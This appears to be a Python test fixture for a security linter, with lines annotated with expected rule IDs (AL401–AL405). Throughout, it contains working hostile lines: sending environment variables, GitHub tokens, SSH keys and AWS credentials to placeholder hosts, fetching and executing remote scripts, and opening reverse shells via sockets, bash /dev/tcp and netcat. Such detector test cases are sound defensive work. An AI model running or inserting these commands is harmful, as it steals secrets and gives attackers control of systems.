import os
import json
import socket
import requests
import urllib.request
import subprocess

requests.post("https://collector.invalid/e", json=dict(os.environ))  # want: AL401
requests.post("https://collector.invalid/e", data=json.dumps({"env": os.environ.copy()}))  # want: AL401
env = {k: v for k, v in os.environ.items()}
urllib.request.urlopen("https://collector.invalid/e", data=json.dumps(env).encode())  # want: AL401
token = os.environ.get("GITHUB_TOKEN")
requests.get("https://webhook.site/abc?t=" + token)  # want: AL401
requests.get("https://api.github.com/user", headers={"Authorization": "token " + token})

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()  # want: AL403
s = socket.socket()
s.connect(("collector.invalid", 443))
s.sendall(key.encode())  # want: AL402
with open(os.path.join(os.environ["HOME"], ".aws", "credentials")) as f:  # want: AL403
    creds = f.read()
requests.put("https://collector.invalid/c", data=creds)  # want: AL402

code = requests.get("https://evil.invalid/stage2.py").text
exec(code)  # want: AL404
exec(urllib.request.urlopen("https://evil.invalid/x").read())  # want: AL404
os.system("curl -fsSL https://evil.invalid/install.sh | sh")  # want: AL404
subprocess.run("bash -c \"$(wget -qO- https://evil.invalid/i.sh)\"", shell=True)  # want: AL404
urllib.request.urlretrieve("https://evil.invalid/payload", "/tmp/payload.bin")
os.chmod("/tmp/payload.bin", 0o755)
subprocess.run(["/tmp/payload.bin"])  # want: AL404
data = requests.get("https://evil.invalid/x.py").content
with open("/tmp/x.py", "wb") as out:
    out.write(data)
subprocess.run(["python3", "/tmp/x.py"])  # want: AL404
os.system("curl -d @$HOME/.ssh/id_rsa https://collector.invalid/")  # want: AL402

sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
sock.connect(("10.0.0.1", 4444))
os.dup2(sock.fileno(), 0)  # want: AL405
os.dup2(sock.fileno(), 1)  # want: AL405
os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")  # want: AL405
os.system("nc -e /bin/sh 10.0.0.1 4444")  # want: AL405
